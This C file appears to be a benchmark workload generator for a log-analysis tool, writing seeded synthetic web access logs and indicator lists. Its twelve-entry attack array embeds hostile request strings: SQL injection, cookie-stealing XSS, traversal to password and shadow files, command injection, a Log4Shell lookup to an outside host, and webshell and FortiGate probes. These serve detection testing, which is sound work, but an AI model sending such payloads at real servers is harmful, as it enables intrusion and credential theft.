/* SPDX-License-Identifier: Apache-2.0 */
/*
 * bench/workload.c - the generated workloads of bench/workloads.md, with a fixed seed.
 *
 * usage: bench_workload w1|w1s LINES >FILE      digest of what was written on standard error
 *        bench_workload w5 INDICATORS >FILE     the same; twenty of them are sources of w1
 *        bench_workload w11 LINES HOUR >FILE    one hour of w11; each hour has a seed of its own
 *        bench_workload yardstick               seconds for a fixed loop: how fast the machine is
 */
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "base/clock.h"
#include "base/hash.h"

#include "base/ban.h"

#define LINE_BYTES_MAX 2048u
#define YARDSTICK_BYTES (64u << 20)
#define YARDSTICK_ROUNDS 8u

static uint64_t state = UINT64_C(0x9e3779b97f4a7c15);

/* xorshift64*: any fixed generator would do. */
static uint32_t chance(uint32_t below)
{
	state ^= state >> 12;
	state ^= state << 25;
	state ^= state >> 27;
	return (uint32_t)((state * UINT64_C(2685821657736338717)) >> 32) % below;
}

static const char *const pages[] = {"/", "/index.html", "/about/", "/products/list.php?page=2&sort=price",
	"/assets/css/site.min.css?v=20260401", "/assets/js/app.bundle.js", "/images/header/main-visual_pc.jpg",
	"/news/2026/11/information-20261103.html", "/contact/form.php", "/api/v1/items?category=12&limit=50",
	"/search?q=%E6%A4%9C%E7%B4%A2+%E7%B5%90%E6%9E%9C&lang=ja", "/favicon.ico", "/robots.txt", "/wp-content/uploads/2026/05/photo_0012-300x200.png"};
static const char *const agents[] = {
	"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/141.0.0.0 Safari/537.36",
	"Mozilla/5.0 (iPhone; CPU iPhone OS 18_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.6 Mobile/15E148 Safari/604.1",
	"Mozilla/5.0 (Macintosh; Intel Mac OS X 10.15; rv:144.0) Gecko/20100101 Firefox/144.0",
	"Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"};
/* Twelve kinds of attack, one line each. */
static const char *const attacks[] = {
	"/products/list.php?page=2%27%20UNION%20SELECT%20user,password%20FROM%20members--%20-",
	"/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E",
	"/download.php?file=../../../../../../etc/passwd",
	"/cgi-bin/ping.cgi?host=127.0.0.1;cat%20/etc/shadow",
	"/search?q=${jndi:ldap://198.51.100.20:1389/a}",
	"/index.php?page=php://filter/convert.base64-encode/resource=config",
	"/.git/config", "/wp-content/uploads/2026/05/shell.php?cmd=id",
	"/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
	"/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession",
	"/item.php?id=1%20AND%20SLEEP(5)", "/search?q={{7*7}}%24{7*7}"};

static int write_access(bool is_storm, uint64_t lines)
{
	uint32_t sources = is_storm ? 2000000 : 20000;
	uint32_t attack_percent = is_storm ? 50 : 1;
	int64_t start_s = INT64_C(1791763200); /* 2026-10-12 00:00 UTC */
	uint64_t digest = 0;
	char line[LINE_BYTES_MAX];

	static const char *const months[] = {"Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec"};
	for (uint64_t i = 0; i < lines; i++) {
		uint32_t source = chance(sources);
		bool is_attack = chance(100) < attack_percent;
		const char *path = is_attack ? attacks[chance(12)] : pages[chance(14)];
		static const int codes[] = {200, 200, 200, 200, 200, 200, 304, 301, 404, 500};
		int status = is_attack ? (chance(4) ? 404 : 200) : codes[chance(10)];
		struct yg_civil c = yg_time_civil((start_s + (int64_t)(i * (is_storm ? 86400 : 864000) / lines)) * YG_NS_PER_S, 32400);
		int size = snprintf(line, sizeof(line),
			"%u.%u.%u.%u - - [%02u/%s/%d:%02u:%02u:%02u +0900] \"%s %s HTTP/1.1\" %d %u \"%s\" \"%s\"\n",
			11 + source / 65536 % 200, source / 65536 / 200 + source / 256 % 256, source / 16 % 256, source % 251 + 1,
			c.day, months[c.month - 1], c.year, c.hour, c.minute, c.second,
			chance(20) ? "GET" : "POST", path, status, status == 304 ? 0 : 200 + chance(20000),
			chance(3) ? "-" : "https://www.example.jp/", agents[source % 4]);

		if (size <= 0 || fwrite(line, 1, (size_t)size, stdout) != (size_t)size)
			return 1;
		digest = yg_hash64((struct yg_bytes){(const uint8_t *)line, (size_t)size}, digest);
	}
	fprintf(stderr, "digest %016llx\n", (unsigned long long)digest);
	return fflush(stdout) != 0;
}

/* One hour of a large site: the sources of w1, and a long tail of sources and of names that are seldom seen again. */
static int write_hour(uint64_t lines, uint64_t hour)
{
	int64_t start_s = INT64_C(1760227200) + (int64_t)hour * 3600; /* 2025-10-12 00:00 UTC */
	uint64_t digest = 0;
	char line[LINE_BYTES_MAX];
	char names[64];

	state ^= (hour + 1) * UINT64_C(0xd1342543de82ef95);
	for (uint64_t i = 0; i < lines; i++) {
		bool is_tail = chance(20) == 0;
		uint32_t source = is_tail ? chance(1u << 22) : chance(20000);
		struct yg_civil c = yg_time_civil((start_s + (int64_t)(i * 3600 / lines)) * YG_NS_PER_S, 32400);
		int size;

		(void)snprintf(names, sizeof(names), "https://n%06x.example/", chance(1u << 24));
		size = snprintf(line, sizeof(line),
			"%u.%u.%u.%u - - [%02u/%s/%d:%02u:%02u:%02u +0900] \"%s %s HTTP/1.1\" %d %u \"%s\" \"%s\"\n",
			is_tail ? 130 + source / 65536 : 11, source / 256 % 256, source / 16 % 256, source % 251 + 1, c.day,
			c.month == 10 ? "Oct" : "Nov", c.year, c.hour, c.minute, c.second, chance(20) ? "GET" : "POST",
			chance(100) ? pages[chance(14)] : attacks[chance(12)], chance(10) ? 200 : 404, 200 + chance(20000),
			chance(50) ? "-" : names, agents[source % 4]);
		if (size <= 0 || fwrite(line, 1, (size_t)size, stdout) != (size_t)size)
			return 1;
		digest = yg_hash64((struct yg_bytes){(const uint8_t *)line, (size_t)size}, digest);
	}
	fprintf(stderr, "digest %016llx\n", (unsigned long long)digest);
	return fflush(stdout) != 0;
}

/* The address of a source of w1, as write_access() writes it. */
static int source_text(uint32_t source, char *to, size_t room)
{
	return snprintf(to, room, "%u.%u.%u.%u\n", 11 + source / 65536 % 200, source / 65536 / 200 + source / 256 % 256,
		source / 16 % 256, source % 251 + 1);
}

static int random_hex(uint32_t bytes, char *to)
{
	static const char digits[] = "0123456789abcdef";

	for (uint32_t i = 0; i < 2 * bytes; i++)
		to[i] = digits[chance(16)];
	to[2 * bytes] = '\n';
	return (int)(2 * bytes + 1);
}

/* Half names, three tenths addresses, two tenths hashes; 20 of 20,000 sources of w1: 0.1 % of its lines. */
static int write_indicators(uint64_t count)
{
	static const char *const words[] = {"login", "secure", "update", "cdn", "mail", "files", "account", "cloud", "web", "api", "shop", "news"};
	static const char *const tops[] = {"com", "net", "org", "info", "xyz", "top", "ru", "cn", "jp", "site", "online", "shop"};
	static const uint32_t sizes[] = {16, 20, 32};
	uint64_t digest = 0;
	char line[LINE_BYTES_MAX];

	for (uint64_t i = 0; i < count; i++) {
		uint32_t kind = (uint32_t)(i % 10);
		int size;

		if (i < 20)
			size = source_text((uint32_t)i * 1000, line, sizeof(line));
		else if (kind < 5)
			size = snprintf(line, sizeof(line), "%s-%08x%s.%s\n", words[chance(12)], chance(UINT32_MAX),
				chance(3) ? "" : ".dyn", tops[chance(12)]);
		else if (kind < 8)
			size = snprintf(line, sizeof(line), "%u.%u.%u.%u\n", 20 + chance(100), chance(256), chance(256), 1 + chance(254));
		else
			size = random_hex(sizes[chance(3)], line);
		if (size <= 0 || fwrite(line, 1, (size_t)size, stdout) != (size_t)size)
			return 1;
		digest = yg_hash64((struct yg_bytes){(const uint8_t *)line, (size_t)size}, digest);
	}
	fprintf(stderr, "digest %016llx\n", (unsigned long long)digest);
	return fflush(stdout) != 0;
}

/* A loop of loads, adds and unpredictable branches over memory larger than the caches. */
static int yardstick(void)
{
	struct yg_clock clock = yg_clock_system();
	uint8_t *mem = aligned_alloc(64, YARDSTICK_BYTES);
	int64_t start_ns;
	uint64_t sum = 0;

	if (!mem)
		return 1;
	for (size_t i = 0; i < YARDSTICK_BYTES; i++)
		mem[i] = (uint8_t)chance(256);
	start_ns = clock.now_ns(clock.arg);
	for (unsigned round = 0; round < YARDSTICK_ROUNDS; round++)
		for (size_t i = 0; i < YARDSTICK_BYTES; i++)
			sum = mem[i] & 1 ? sum * 31 + mem[i] : sum ^ (sum >> 7);
	printf("%.4f\n", (double)(clock.now_ns(clock.arg) - start_ns) / 1e9);
	free(mem);
	return sum == 42; /* the sum must be used, or the loop is not run */
}

int main(int argc, char **argv)
{
	uint64_t lines, hour;

	if (argc == 2 && strcmp(argv[1], "yardstick") == 0)
		return yardstick();
	if (argc == 3 && yg_bytes_u64(yg_bytes_str(argv[2]), &lines)) {
		if (strcmp(argv[1], "w1") == 0)
			return write_access(false, lines);
		if (strcmp(argv[1], "w1s") == 0)
			return write_access(true, lines);
		if (strcmp(argv[1], "w5") == 0)
			return write_indicators(lines);
	}
	if (argc == 4 && strcmp(argv[1], "w11") == 0 && yg_bytes_u64(yg_bytes_str(argv[2]), &lines) &&
	    yg_bytes_u64(yg_bytes_str(argv[3]), &hour) && hour < 1000)
		return write_hour(lines, hour);
	fprintf(stderr, "usage: bench_workload w1|w1s LINES | w5 INDICATORS | w11 LINES HOUR | yardstick\n");
	return 2;
}
